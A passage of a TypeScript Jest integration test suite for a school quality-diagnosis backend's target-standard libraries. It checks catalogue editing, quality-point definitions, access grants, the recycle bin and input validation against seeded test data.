import { jest } from '@jest/globals';
import { DataSource } from 'typeorm';
import { JobQueue } from '../../backend/src/infrastructure/queue/job-queue.port.js';
import { CopyTargetJob } from '../../backend/src/modules/target-standards/application/jobs/copy-target.job.js';
import { LibraryCopyObserver, type CopyStep } from '../../backend/src/modules/target-standards/application/ports/library-copier.port.js';
import { binary, type Client } from './support/files-fixtures.js';
import { buildObjectYears, YEAR_POINTS } from './support/diagnosis-fixtures.js';
import { buildLibrary, contentsOf, importSheet, rowsOf, rowsOfXlsx, snapshotOutside, taskResult, xlsxOf } from './support/library-fixtures.js';
import { client, seed } from './support/session.js';
import { startTestApp, waitFor, type TestApp } from './support/test-app.js';

const API = '/api/herm-znfx';
const NO_PERMISSION = { meta: { success: false, message: '用户无权访问该资源' }, data: null };
const HEADER = ['一级指标', '二级指标', '三级指标', '质控点编号', '质控点名称', '内涵', '诊断标准', '标准值', '目标值', '值类型', '采集方式', '展示方式'];

// Copies of 2,000 points, retries with backoff, and argon2 logins take longer than Jest's default 5 s.
jest.setTimeout(60_000);

type Card = Record<string, unknown> & { id: string; name: string };
type Node = { id: string; name: string; storedName: string; level: number; levelTitle: string; children: Node[] };

describe('target standards: libraries, catalogue, points, grants, copy, sync, Excel (spec 001 §2–4, §6, §7, §9)', () => {
  let t: TestApp;
  let db: DataSource;
  const as = async (account: string, password = 'Demo2026'): Promise<Client> => {
    const c = client(t);
    expect((await c.login(account, password)).status).toBe(200);
    return c;
  };
  let fabu: Client; // u-publisher: creates libraries
  let bmshr: Client; // u-auditor: granted write on the fixture libraries, never their creator
  let zj: Client; // u-expert: reads the fixture libraries through the expert role
  let rwfzr: Client; // u-owner: no grant on any library
  let admin: Client;
  // The suite's libraries in use: an object's 2025 and 2026 tasks on them, with results (buildObjectYears).
  let usedLib: string;
  let usedPrevLib: string;

  /** A fresh empty library of fabu's, answered as its card. */
  const newLibrary = async (over: Record<string, unknown> = {}): Promise<Card> => {
    const res = await fabu.post(`${API}/target/add`, { name: `库${Date.now()}${Math.random()}`.slice(0, 40), cycleValue: '2026', targetLevelId: 'school', dimensionId: 'dim-zlsc', treeLevel: 3, ...over });
    expect(res.body.meta).toEqual({ success: true, message: '新增成功' });
    return res.body.data as Card;
  };
  const tree = async (c: Client, libraryId: string) => (await c.get(`${API}/catalog/tree?libraryId=${libraryId}`)).body.data as { treeLevel: number; nodes: Node[] };
  const addIndicator = async (libraryId: string, name: string, parentId?: string) => {
    const res = await fabu.post(`${API}/catalog/add`, { libraryId, name, parentId });
    expect(res.body.meta).toEqual({ success: true, message: '新增成功' });
    return res.body.data.id as string;
  };

  beforeAll(async () => {
    t = await startTestApp({ runWorkers: true });
    db = await seed(t);
    await buildLibrary(db, 'lib-big', { tree: [5, 5, 8], points: 2000 }, { name: '大库' });
    const used = await buildObjectYears(db, 'lb', { name: '目标标准测试学校', owner: 'u-publisher', auditor: 'u-leader', department: 'd-zlb' });
    [usedLib, usedPrevLib] = [used.libraries.current, used.libraries.prev];
    [fabu, bmshr, zj, rwfzr, admin] = await Promise.all([as('fabu'), as('bmshr'), as('zj'), as('rwfzr'), as('admin', 'Admin2026')]);
  });
  afterAll(() => t.close());

  describe('libraries', () => {
    it('lists the libraries a person may read, with the Target standard and Target card fields', async () => {
      // The test's own libraries, all named 列表测试…: a school one made on a known day, two majors and two courses.
      await buildLibrary(db, 'ls-school', { tree: [1, 1, 2], points: 7 }, { name: '2026年列表测试学校库' });
      await db.query(`UPDATE target_library SET created_at = '2026-01-15T08:00:00+08:00' WHERE id = 'ls-school'`);
      for (const [id, level, cycle, name] of [
        ['ls-major-2025', 'major', '2025', '2025年列表测试专业库'], ['ls-major-2026', 'major', '2026', '2026年列表测试专业库'],
        ['ls-course-2025', 'course', '2025', '2025年列表测试课程库'], ['ls-course-2026', 'course', '2026', '2026年列表测试课程库'],
      ] as const) {
        await buildLibrary(db, id, { tree: [1, 1, 1], points: 1 }, { name, level, cycle });
      }
      const res = await fabu.get(`${API}/target/list?pageNum=1&pageSize=1000`);
      expect(res.body.meta.success).toBe(true);
      const school = (res.body.data.records as Card[]).find((r) => r.id === 'ls-school');
      expect(school).toEqual({
        id: 'ls-school', name: '2026年列表测试学校库', cycleTypeId: 'c-year', cycleValue: '2026', targetLevelId: 'school', dimensionId: 'dim-zlsc',
        dimensionName: '质量生成系统', creator: 'u-publisher', creatorName: '王明', createTime: expect.stringMatching(/^2026-01-15 \d\d:00:00$/), createdTime: '2026-01-15',
        treeLevel: 3, targetType: 'library', parentId: null, parentName: null, child: false, childCount: 0, pointCount: 7, canEdit: true, access: 'write', deleteTime: null,
        rights: { read: true, write: true, addChild: true, grant: true, manage: true },
      });
      expect(res.body.data).toMatchObject({ current: 1, pages: Math.ceil(res.body.data.total / 1000) });

      const expert = (await zj.get(`${API}/target/list?pageNum=1&pageSize=5`)).body.data;
      expect(expert.total).toBeGreaterThanOrEqual(5);
      expect(expert.pages).toBe(Math.ceil(expert.total / 5));
      expect(expert.records[0]).toMatchObject({ canEdit: false, access: 'read', rights: { read: true, write: false, addChild: false, grant: false, manage: false } });
      expect((await rwfzr.get(`${API}/target/list?pageNum=1&pageSize=10`)).body.data).toEqual({ records: [], total: 0, current: 1, pages: 0 });

      const majors = (await fabu.get(`${API}/target/list?pageNum=1&pageSize=50&targetLevelId=major&name=${encodeURIComponent('列表测试')}`)).body.data.records as Card[];
      expect(majors.map((r) => r.id).sort()).toEqual(['ls-major-2025', 'ls-major-2026']);
      const named = (await fabu.get(`${API}/target/list?pageNum=1&pageSize=50&cycleValue=2025&name=${encodeURIComponent('列表测试课程')}`)).body.data.records as Card[];
      expect(named.map((r) => r.id)).toEqual(['ls-course-2025']);
      expect((await fabu.get(`${API}/target/list?mode=child`)).body.meta.message).toBe('请选择上级目标标准');
      expect((await fabu.get(`${API}/target/list?mode=sideways`)).status).toBe(400);
    });

    it('adds a library with checked fields, only for people with the target-standard menu', async () => {
      const card = await newLibrary({ name: '  新建专业库 ', targetLevelId: 'major', treeLevel: 2 });
      expect(card).toMatchObject({ name: '新建专业库', targetLevelId: 'major', treeLevel: 2, creator: 'u-publisher', creatorName: '王明', canEdit: true, access: 'write', pointCount: 0 });
      expect((await fabu.get(`${API}/target/detail?id=${card.id}`)).body.data).toEqual(card);
      const libraries = async () => (await db.query(`SELECT count(*)::int AS n FROM target_library`)) as Array<{ n: number }>;
      const before = await libraries();
      for (const [body, message] of [
        [{ cycleValue: '2026', targetLevelId: 'school' }, '请输入名称'],
        [{ name: '名'.repeat(201), cycleValue: '2026', targetLevelId: 'school' }, '名称最多200个字符'],
        [{ name: '库', targetLevelId: 'school' }, '请选择周期'],
        [{ name: '库', cycleValue: '2026', targetLevelId: 'college' }, '目标层级只能是 school、major、course、teacher 或 student'],
        [{ name: '库', cycleValue: '2026', targetLevelId: 'school', treeLevel: 11 }, '指标层级只能是1到10'],
        [{ name: '库', cycleValue: '2026', targetLevelId: 'school', dimensionId: 'dim-none' }, '维度不存在'],
        // issue 30: the body as the contract's LibraryAddInput reads it
        [{ name: null, cycleValue: '2026', targetLevelId: 'school' }, '请输入名称'],
        [{ name: '库\t名', cycleValue: '2026', targetLevelId: 'school' }, '名称包含非法字符'],
        [{ name: '库', cycleValue: 2026, targetLevelId: 'school' }, '周期必须是文本'],
        [{ name: '库', cycleValue: '2026', targetLevelId: null }, '目标层级只能是 school、major、course、teacher 或 student'],
        [{ name: '库', cycleValue: '2026', targetLevelId: 'school', treeLevel: 'three' }, '指标层级只能是1到10'],
        [{ name: '库', cycleValue: '2026', targetLevelId: 'school', dimensionId: 5 }, '维度必须是文本'],
      ] as const) {
        const res = await fabu.post(`${API}/target/add`, body);
        expect([res.status, res.body.meta]).toEqual([400, { success: false, message }]);
      }
      expect(await libraries()).toEqual(before);
      expect((await rwfzr.post(`${API}/target/add`, { name: '库', cycleValue: '2026', targetLevelId: 'school' })).body).toMatchObject(NO_PERMISSION);
    });

    it('target/rights answers what target/add checks: the screen shows 新增 by it, never by the menus (issue 30)', async () => {
      const creates = async (c: Client) => ((await c.get(`${API}/target/rights`)).body.data as { createsLibraries: boolean }).createsLibraries;
      expect([await creates(fabu), await creates(admin), await creates(rwfzr), await creates(zj)]).toEqual([true, true, false, false]);
      // what it says is what add does: a person it says may not create is refused
      expect((await zj.post(`${API}/target/add`, { name: '库', cycleValue: '2026', targetLevelId: 'school' })).body).toMatchObject(NO_PERMISSION);
    });

    it('refuses null, control characters and wrong types in update, copy, sync, delete and the queries, changing nothing (issue 30)', async () => {
      const lib = await newLibrary({ name: 'issue30库' });
      const stored = async () => ({
        lib: await db.query(`SELECT name, cycle_value, target_level_id, dimension_id, tree_level, parent_id, deleted_at FROM target_library WHERE id = $1`, [lib.id]),
        libraries: await db.query(`SELECT count(*)::int AS n FROM target_library`),
      });
      const before = await stored();
      for (const [route, body, message] of [
        ['target/update', { id: lib.id, name: null }, '请输入名称'],
        ['target/update', { id: lib.id, treeLevel: null }, '指标层级只能是1到10'],
        ['target/update', { id: lib.id, cycleValue: '20\n26' }, '周期包含非法字符'],
        ['target/update', { id: lib.id, parentId: ['x'] }, '上级编号必须是文本'],
        ['target/copy', { id: lib.id, name: '副\r本' }, '名称包含非法字符'],
        ['target/copy', { id: lib.id, name: '副本', cycleValue: 2027 }, '周期必须是文本'],
        ['target/delete', { id: null }, '缺少目标标准'],
        ['quality/sync', { parentId: null }, '缺少上级目标标准'],
        ['quality/sync', { parentId: lib.id, childId: 5 }, '下级目标标准必须是文本'],
      ] as const) {
        const res = await fabu.post(`${API}/${route}`, body);
        expect({ route, status: res.status, meta: res.body.meta }).toEqual({ route, status: 400, meta: { success: false, message } });
      }
      expect(await stored()).toEqual(before);
      for (const [query, message] of [
        ['target/list?name=%09', '名称包含非法字符'],
        ['target/list?pageSize=abc', '每页条数必须是整数'],
        ['target/detail?id=', '缺少目标标准'],
        ['target/checkStatus?taskId=', '缺少任务编号'],
      ]) {
        const res = await fabu.get(`${API}/${query}`);
        expect({ query, status: res.status, meta: res.body.meta }).toEqual({ query, status: 400, meta: { success: false, message } });
      }
    });

    it('links a child to a parent it may read: parent and child modes, one level deep', async () => {
      const parent = await newLibrary({ name: '上级库' });
      const child = await newLibrary({ name: '子库', parentId: parent.id });
      expect(child).toMatchObject({ parentId: parent.id, parentName: '上级库' });
      const parents = (await fabu.get(`${API}/target/list?mode=parent&pageSize=100`)).body.data.records as Card[];
      expect(parents.find((r) => r.id === parent.id)).toMatchObject({ child: true, childCount: 1 });
      expect(parents.some((r) => r.id === child.id)).toBe(false);
      expect(((await fabu.get(`${API}/target/list?mode=child&parentId=${parent.id}`)).body.data.records as Card[]).map((r) => r.id)).toEqual([child.id]);
      expect((await fabu.post(`${API}/target/add`, { name: '孙库', cycleValue: '2026', targetLevelId: 'school', parentId: child.id })).body.meta.message).toBe('上级目标标准本身是子库，不能再作为上级');
      expect((await fabu.post(`${API}/target/update`, { id: parent.id, parentId: usedLib })).body.meta.message).toBe('该目标标准已有子库，不能再作为子库');
      // A parent the person cannot read cannot be inherited from.
      const hidden = await newLibrary({ name: '别人的库' });
      await db.query(`UPDATE target_library SET creator_id = 'u-admin' WHERE id = $1`, [hidden.id]);
      expect((await fabu.post(`${API}/target/add`, { name: '蹭库', cycleValue: '2026', targetLevelId: 'school', parentId: hidden.id })).body).toMatchObject(NO_PERMISSION);
    });

    it('adds a child only under a parent the person writes; a read grant is not enough and nothing is stored (issue 30)', async () => {
      const leader = await as('xld'); // 刘建国: a read grant on lib-major-2026, the 目标标准 menu with write
      const count = async () => (await db.query(`SELECT count(*)::int AS n FROM target_library`))[0].n as number;
      const before = await count();
      const card = (await leader.get(`${API}/target/detail?id=lib-major-2026`)).body.data as Card;
      expect(card.access).toBe('read');
      expect(card.rights).toEqual({ read: true, write: false, addChild: false, grant: false, manage: false });
      const refused = await leader.post(`${API}/target/add`, { name: '校领导的子库', cycleValue: '2026', targetLevelId: 'major', parentId: 'lib-major-2026' });
      expect(refused.body).toMatchObject(NO_PERMISSION);
      expect((await leader.post(`${API}/target/update`, { id: 'lib-major-2026', name: '改名' })).body).toMatchObject(NO_PERMISSION);
      expect(await count()).toBe(before);
      // Every card of the list answers the same rights as its detail.
      const cards = (await leader.get(`${API}/target/list?pageSize=100`)).body.data.records as Card[];
      for (const c of cards) expect(c.rights).toEqual(((await leader.get(`${API}/target/detail?id=${c.id}`)).body.data as Card).rights);
      // Its creator (or a write grant) adds the child.
      const own = await newLibrary({ name: '可写上级' });
      expect(own.rights).toEqual({ read: true, write: true, addChild: true, grant: true, manage: true });
      const child = await newLibrary({ name: '可写上级的子库', parentId: own.id });
      expect(child.parentId).toBe(own.id);
    });

    it('lets only the creator (or an administrator) edit, delete, recover and purge; others get the no-permission envelope and nothing changes', async () => {
      const lib = await newLibrary({ name: '仅创建者' });
      await db.query(`INSERT INTO authority (resource_type, resource_id, subject_type, subject_id, authority_type) VALUES ('target-library', $1, 'user', 'u-auditor', 'write')`, [lib.id]);
      // A writer of the library may change its catalogue …
      expect((await bmshr.post(`${API}/catalog/add`, { libraryId: lib.id, name: '写权限可以加指标' })).body.meta.success).toBe(true);
      const before = await db.query(`SELECT * FROM target_library WHERE id = $1`, [lib.id]);
      // … but not the library itself.
      for (const [path, body] of [
        ['target/update', { id: lib.id, name: '被改名' }], ['target/delete', { id: lib.id }], ['target/recover', { id: lib.id }], ['target/purge', { id: lib.id }],
      ] as const) {
        const res = await bmshr.post(`${API}/${path}`, body);
        expect([path, res.status, res.body]).toEqual([path, 200, { ...NO_PERMISSION, code: 40300010 }]);
      }
      expect(await db.query(`SELECT * FROM target_library WHERE id = $1`, [lib.id])).toEqual(before);
      expect((await bmshr.get(`${API}/target/detail?id=${lib.id}`)).body.data).toMatchObject({ canEdit: false, access: 'write' });

      const edited = await fabu.post(`${API}/target/update`, { id: lib.id, name: '创建者改名', treeLevel: 4 });
      expect(edited.body).toMatchObject({ meta: { success: true, message: '修改成功' }, data: { name: '创建者改名', treeLevel: 4 } });
      expect((await admin.post(`${API}/target/update`, { id: lib.id, name: '管理员改名' })).body.data.name).toBe('管理员改名');
      // A tree level below the deepest indicator is refused.
      const a = await addIndicator(lib.id, '一');
      const b = await addIndicator(lib.id, '二', a);
      await addIndicator(lib.id, '三', b);
      expect((await fabu.post(`${API}/target/update`, { id: lib.id, treeLevel: 2 })).body.meta.message).toBe('已有3级指标，指标层级不能小于3');
    });

    it('round-trips the recycle bin, and purges for good only what no task uses', async () => {
      const lib = await newLibrary({ name: '回收站库' });
      await addIndicator(lib.id, '指标');
      await db.query(`INSERT INTO authority (resource_type, resource_id, subject_type, subject_id, authority_type) VALUES ('target-library', $1, 'role', 'r-expert', 'read')`, [lib.id]);
      const ids = async (c: Client, mode: string) => ((await c.get(`${API}/target/list?mode=${mode}&pageSize=1000`)).body.data.records as Card[]).map((r) => r.id);

      expect((await fabu.post(`${API}/target/delete`, { id: lib.id })).body.meta).toEqual({ success: true, message: '删除成功' });
      expect(await ids(fabu, 'normal')).not.toContain(lib.id);
      expect(await ids(fabu, 'recycle')).toContain(lib.id);
      expect(await ids(admin, 'recycle')).toContain(lib.id);
      expect(await ids(bmshr, 'recycle')).not.toContain(lib.id);
      const recycled = (await fabu.get(`${API}/target/list?mode=recycle&pageSize=1000`)).body.data.records.find((r: Card) => r.id === lib.id);
      expect(recycled.deleteTime).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
      // Gone for readers; no writes until it is recovered.
      expect((await zj.get(`${API}/target/detail?id=${lib.id}`)).status).toBe(404);
      const write = await fabu.post(`${API}/catalog/add`, { libraryId: lib.id, name: '不行' });
      expect([write.status, write.body.meta.message]).toEqual([409, '目标标准已删除，请先恢复']);
      expect((await fabu.post(`${API}/target/delete`, { id: lib.id })).body.meta.message).toBe('目标标准已在回收站中');

      expect((await fabu.post(`${API}/target/recover`, { id: lib.id })).body).toMatchObject({ meta: { success: true, message: '恢复成功' }, data: { id: lib.id, deleteTime: null } });
      expect(await ids(fabu, 'normal')).toContain(lib.id);
      expect((await fabu.post(`${API}/target/purge`, { id: lib.id })).body.meta.message).toBe('请先删除到回收站，再彻底删除');

      await fabu.post(`${API}/target/delete`, { id: lib.id });
      expect((await fabu.post(`${API}/target/purge`, { id: lib.id })).body.meta).toEqual({ success: true, message: '彻底删除成功' });
      expect(await rowsOf(db, lib.id)).toEqual({ library: 0, indicators: 0, points: 0, datasources: 0, authorities: 0 });
      expect((await fabu.get(`${API}/target/detail?id=${lib.id}`)).status).toBe(404);

      // A library that objects' tasks use stays.
      expect((await fabu.post(`${API}/target/delete`, { id: usedLib })).body.meta.success).toBe(true);
      const refused = await fabu.post(`${API}/target/purge`, { id: usedLib });
      expect([refused.status, refused.body.meta.message]).toEqual([409, '该目标标准已被1个诊断任务使用，不能彻底删除']);
      expect((await rowsOf(db, usedLib)).points).toBe(YEAR_POINTS);
      expect((await fabu.post(`${API}/target/recover`, { id: usedLib })).body.meta.success).toBe(true);
    });
  });

  describe('catalogue', () => {
    it('shows the tree with the category renames, stored names and level titles', async () => {
      const { treeLevel, nodes } = await tree(zj, usedLib);
      expect(treeLevel).toBe(3);
      expect(nodes[0]).toMatchObject({ name: '计分卡', storedName: '人才培养', level: 1, levelTitle: '一级指标' });
      expect(nodes[0]!.children[0]).toMatchObject({ level: 2, levelTitle: '二级指标' });
      expect(nodes[0]!.children[0]!.children[0]).toMatchObject({ level: 3, levelTitle: '三级指标', children: [] });
      expect(nodes.map((n) => n.name)).toContain('资源表');
      expect((await rwfzr.get(`${API}/catalog/tree?libraryId=${usedLib}`)).body).toMatchObject(NO_PERMISSION);
    });

    it('adds levels up to the library\'s tree level, refuses twins, moves without cycles, deletes with care', async () => {
      const lib = await newLibrary({ treeLevel: 3 });
      const l1 = await addIndicator(lib.id, '人才培养');
      const l2 = await addIndicator(lib.id, '培养质量', l1);
      const l3 = await addIndicator(lib.id, '就业质量', l2);
      const other = await addIndicator(lib.id, '教学条件');
      const otherChild = await addIndicator(lib.id, '师资', other);
      const deeper = await fabu.post(`${API}/catalog/add`, { libraryId: lib.id, name: '四级', parentId: l3 });
      expect([deeper.status, deeper.body.meta.message]).toEqual([400, '超过目标标准的指标层级（3级）']);
      expect((await fabu.post(`${API}/catalog/add`, { libraryId: lib.id, name: ' 培养质量 ', parentId: l1 })).body.meta.message).toBe('同级已有同名指标');
      expect((await fabu.post(`${API}/catalog/add`, { libraryId: lib.id, name: '外库的下级', parentId: `${usedLib}-a1` })).body.meta.message).toBe('上级指标不存在或不属于该目标标准');
      expect((await zj.post(`${API}/catalog/add`, { libraryId: usedLib, name: '读者加指标' })).body).toMatchObject(NO_PERMISSION);

      expect((await fabu.post(`${API}/catalog/update`, { id: l1, parentId: l3 })).body.meta.message).toBe('不能把指标移到它自己的下级指标下面');
      expect((await fabu.post(`${API}/catalog/update`, { id: l2, parentId: otherChild })).body.meta.message).toBe('超过目标标准的指标层级（3级）');
      // Moving 培养质量 (with 就业质量 below) under 教学条件 keeps both levels; 就业质量 to the first level; a rename.
      expect((await fabu.post(`${API}/catalog/update`, { id: l2, parentId: other })).body.data).toEqual({ id: l2, level: 2 });
      expect((await fabu.post(`${API}/catalog/update`, { id: l3, parentId: null, name: '就业' })).body.data).toEqual({ id: l3, level: 1 });
      const shape = (nodes: Node[]): unknown => nodes.map((n) => [n.storedName, n.level, shape(n.children)]);
      expect(shape((await tree(fabu, lib.id)).nodes)).toEqual([
        ['人才培养', 1, []],
        ['教学条件', 1, [['师资', 2, []], ['培养质量', 2, []]]],
        ['就业', 1, []],
      ]);
      // Back down two levels, with its level following.
      await fabu.post(`${API}/catalog/update`, { id: l3, parentId: l2 });
      expect(await db.query(`SELECT level FROM indicator WHERE id = $1`, [l3])).toEqual([{ level: 3 }]);

      const point = await fabu.post(`${API}/quality/definitions/add`, { libraryId: lib.id, indicatorId: l3, zkdmc: '就业率', zlx: 'percent', bzz: '90', mbz: '95' });
      expect(point.body.meta.success).toBe(true);
      const refused = await fabu.post(`${API}/catalog/delete`, { id: other });
      expect([refused.status, refused.body.meta.message, refused.body.data]).toEqual([409, '该指标下还有2个下级指标、1个质控点，不能删除', { children: 2, points: 1 }]);
      expect((await fabu.post(`${API}/catalog/delete`, { id: l1 })).body.meta).toEqual({ success: true, message: '删除成功' });
      expect((await fabu.post(`${API}/catalog/delete`, { id: other, cascade: true })).body.meta.success).toBe(true);
      expect(await rowsOf(db, lib.id)).toMatchObject({ indicators: 0, points: 0, datasources: 0 });

      // Points with results are never deleted, cascade or not.
      const used = await admin.post(`${API}/catalog/delete`, { id: `${usedLib}-a1`, cascade: true });
      expect([used.status, used.body.meta.message]).toEqual([409, '该指标下的质控点已有诊断结果或附件，不能删除']);
    });

    it('refuses null, control characters and wrong types in add, update and delete, changing nothing (issue 30)', async () => {
      const lib = await newLibrary({ treeLevel: 3 });
      const l1 = await addIndicator(lib.id, '一级');
      const indicators = () => db.query(`SELECT id, parent_id, name, level, sort_order FROM indicator WHERE library_id = $1 ORDER BY id`, [lib.id]);
      const before = await indicators();
      for (const [route, body, message] of [
        ['catalog/add', { libraryId: lib.id, name: null }, '请输入指标名称'],
        ['catalog/add', { libraryId: lib.id, name: 5 }, '指标名称必须是文本'],
        ['catalog/add', { libraryId: lib.id, name: '指\t标' }, '名称包含非法字符'],
        ['catalog/add', { libraryId: null, name: '指标' }, '缺少目标标准'],
        ['catalog/update', { id: l1, name: null }, '请输入指标名称'],
        ['catalog/update', { id: l1, parentId: 5 }, '上级编号必须是文本'],
        ['catalog/update', { id: l1, sortOrder: 1.5 }, '排序必须是整数'],
        ['catalog/delete', { id: l1, cascade: 'yes' }, '是否级联删除必须是布尔值'],
      ] as const) {
        const res = await fabu.post(`${API}/${route}`, body);
        expect({ route, status: res.status, meta: res.body.meta }).toEqual({ route, status: 400, meta: { success: false, message } });
      }
      expect(await indicators()).toEqual(before);
      const query = await fabu.get(`${API}/catalog/tree?libraryId=`);
      expect({ status: query.status, meta: query.body.meta }).toEqual({ status: 400, meta: { success: false, message: '缺少目标标准' } });
    });
  });

  describe('quality-point definitions', () => {
    it('adds, lists, updates and deletes definitions with the rules of the value types', async () => {
      const lib = await newLibrary({ targetLevelId: 'major' });
      const l1 = await addIndicator(lib.id, '专业建设');
      const l2 = await addIndicator(lib.id, '师资', l1);
      const base = { libraryId: lib.id, indicatorId: l2, zkdmc: '双师比例', zlx: 'percent', bzz: '60', mbz: '80%', calRule: { direction: 'higher', b: 0.9, c: 0.8 }, samplingPeriod: 'month' };
      const added = await fabu.post(`${API}/quality/definitions/add`, { ...base, datasources: [{ cjfs: 'report', xsfs: 'line', jsgz: '人工填报' }] });
      expect(added.body).toMatchObject({
        meta: { success: true, message: '新增成功' },
        data: { zkdid: 'ZY-001', zkdmc: '双师比例', bzz: '60', mbz: '80%', zlx: 'percent', fsdl: 0, fsjzxz: 0, samplingPeriod: 'month', calRule: { direction: 'higher', b: 0.9, c: 0.8 }, datasources: [{ sjlx: 'percent', jsgz: '人工填报', cjfs: 'report', xsfs: 'line' }] },
      });
      const second = await fabu.post(`${API}/quality/definitions/add`, { ...base, zkdmc: '有无实训基地', zlx: 'have', bzz: '有', mbz: 1, indicatorId: l1 });
      expect(second.body.data).toMatchObject({ zkdid: 'ZY-002', bzz: '1', mbz: '1' });
      for (const [change, message] of [
        [{ zkdmc: '' }, '请输入质控点名称'],
        [{ mbz: '很多' }, '目标值：请填写数字'],
        [{ zlx: 'integer', bzz: '1.5' }, '标准值：请填写整数'],
        [{ zlx: 'money' }, '值类型只能是有、是否、百分比、整数、小数、文本'],
        [{ calRule: { direction: 'higher', b: 0.7, c: 0.8 } }, '计分规则的 b、c 必须是 0 到 1 之间的数，且 c 不大于 b'],
        [{ nh: '内'.repeat(1001) }, '内涵最多1000个字符'],
        [{ datasources: [{ cjfs: 'fax' }] }, '采集方式只能是report、algorithm、sql、interface'],
        [{ indicatorId: `${usedLib}-a1` }, '指标不存在或不属于该目标标准'],
      ] as const) {
        const res = await fabu.post(`${API}/quality/definitions/add`, { ...base, ...change });
        expect([res.status, res.body.meta.message]).toEqual([400, message]);
      }
      const twin = await fabu.post(`${API}/quality/definitions/add`, { ...base, zkdid: 'ZY-001' });
      expect([twin.status, twin.body.meta.message]).toEqual([409, '质控点编号已存在：ZY-001']);
      expect((await zj.post(`${API}/quality/definitions/add`, { ...base, libraryId: usedLib, indicatorId: `${usedLib}-a1-b1-c1` })).body).toMatchObject(NO_PERMISSION);

      const id = added.body.data.id as string;
      const updated = await fabu.post(`${API}/quality/definitions/update`, { id, zkdmc: '双师型教师比例', datasources: [{ cjfs: 'sql', xsfs: 'table' }, { cjfs: 'algorithm', xsfs: 'pie', jsgz: 'a/b' }] });
      expect(updated.body.data).toMatchObject({ zkdid: 'ZY-001', zkdmc: '双师型教师比例', mbz: '80%', datasources: [{ cjfs: 'sql', xsfs: 'table' }, { cjfs: 'algorithm', xsfs: 'pie', jsgz: 'a/b' }] });
      expect((await db.query(`SELECT count(*)::int AS n FROM point_datasource WHERE point_id = $1`, [id]))[0].n).toBe(2);

      const all = (await fabu.get(`${API}/quality/definitions?libraryId=${lib.id}`)).body.data as Array<{ zkdid: string }>;
      expect(all.map((p) => p.zkdid)).toEqual(['ZY-001', 'ZY-002']);
      const under = (await fabu.get(`${API}/quality/definitions?libraryId=${lib.id}&indicatorId=${l2}`)).body.data as Array<{ zkdid: string }>;
      expect(under.map((p) => p.zkdid)).toEqual(['ZY-001']);
      expect(((await fabu.get(`${API}/quality/definitions?libraryId=${lib.id}&indicatorId=${l1}`)).body.data as unknown[]).length).toBe(2);

      expect((await fabu.post(`${API}/quality/definitions/delete`, { id })).body.meta).toEqual({ success: true, message: '删除成功' });
      expect(await rowsOf(db, lib.id)).toMatchObject({ points: 1, datasources: 0 });
      const withResults = await admin.post(`${API}/quality/definitions/delete`, { id: `${usedPrevLib}-p1` });
      expect([withResults.status, withResults.body.meta.message]).toEqual([409, '该质控点已有诊断结果或附件，不能删除']);
    });
  });

  describe('authority', () => {
    it('lets who may write the library add, change and remove grants, and nobody else', async () => {
      const lib = await newLibrary();
      expect((await fabu.get(`${API}/authority/list?libraryId=${lib.id}`)).body.data).toEqual([]);
      expect((await zj.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'user', subjectId: 'u-expert', authorityType: 'write' })).body).toMatchObject(NO_PERMISSION);
      expect((await zj.get(`${API}/authority/list?libraryId=${lib.id}`)).body).toMatchObject(NO_PERMISSION);

      const added = await fabu.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'role', subjectId: 'r-expert', authorityType: 'read' });
      expect(added.body).toMatchObject({ meta: { success: true, message: '新增成功' }, data: { subjectType: 'role', subjectId: 'r-expert', subjectName: '专家', authorityType: 'read' } });
      expect((await fabu.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'role', subjectId: 'r-expert', authorityType: 'write' })).body.meta.message).toBe('该角色已有此目标标准的权限');
      expect((await fabu.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'user', subjectId: 'u-nobody', authorityType: 'read' })).body.meta.message).toBe('用户不存在');
      expect((await fabu.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'group', subjectId: 'r-expert', authorityType: 'read' })).body.meta.message).toBe('subjectType 只能是 role 或 user');
      // issue 30: the bodies as the contract's GrantInput and GrantUpdate read them; 400, no grant stored or changed
      const grants = () => db.query(`SELECT subject_type, subject_id, authority_type FROM authority WHERE resource_type = 'target-library' AND resource_id = $1 ORDER BY id`, [lib.id]);
      const grantsBefore = await grants();
      for (const [route, body, message] of [
        ['authority/add', { libraryId: lib.id, subjectType: 'user', subjectId: null, authorityType: 'read' }, '请选择角色或用户'],
        ['authority/add', { libraryId: lib.id, subjectType: 'user', subjectId: 'u-\towner', authorityType: 'read' }, '授权对象包含非法字符'],
        ['authority/add', { libraryId: lib.id, subjectType: 'user', subjectId: 'u-owner', authorityType: null }, 'authorityType 只能是 write 或 read'],
        ['authority/update', { id: added.body.data.id, authorityType: 5 }, 'authorityType 只能是 write 或 read'],
        ['authority/delete', { id: 5 }, '编号必须是文本'],
      ] as const) {
        const res = await fabu.post(`${API}/${route}`, body);
        expect({ route, status: res.status, meta: res.body.meta }).toEqual({ route, status: 400, meta: { success: false, message } });
      }
      expect(await grants()).toEqual(grantsBefore);

      // Read: the expert sees the library but may not touch its grants.
      expect((await zj.get(`${API}/target/detail?id=${lib.id}`)).body.data).toMatchObject({ access: 'read' });
      const id = added.body.data.id as string;
      expect((await zj.post(`${API}/authority/update`, { id, authorityType: 'write' })).body).toMatchObject(NO_PERMISSION);
      expect((await fabu.post(`${API}/authority/update`, { id, authorityType: 'write' })).body.data).toMatchObject({ id, authorityType: 'write' });
      // Now a writer through the role, the expert may grant a user.
      const byExpert = await zj.post(`${API}/authority/add`, { libraryId: lib.id, subjectType: 'user', subjectId: 'u-owner', authorityType: 'read' });
      expect(byExpert.body.data).toMatchObject({ subjectType: 'user', subjectId: 'u-owner', subjectName: '陈静' });
      expect(((await rwfzr.get(`${API}/target/list?pageSize=100`)).body.data.records as Card[]).map((r) => r.id)).toContain(lib.id);

      expect((await fabu.post(`${API}/authority/delete`, { id })).body.meta).toEqual({ success: true, message: '删除成功' });
      expect((await zj.post(`${API}/authority/delete`, { id: byExpert.body.data.id })).body).toMatchObject(NO_PERMISSION);
      expect(((await fabu.get(`${API}/authority/list?libraryId=${lib.id}`)).body.data as Array<{ subjectId: string }>).map((a) => a.subjectId)).toEqual(['u-owner']);
    });
  });

  describe('copy', () => {
    it('copies a library of 2,000 points whole (tree, points, data sources, grants), and nothing else changes', async () => {
      const source = await contentsOf(db, 'lib-big');
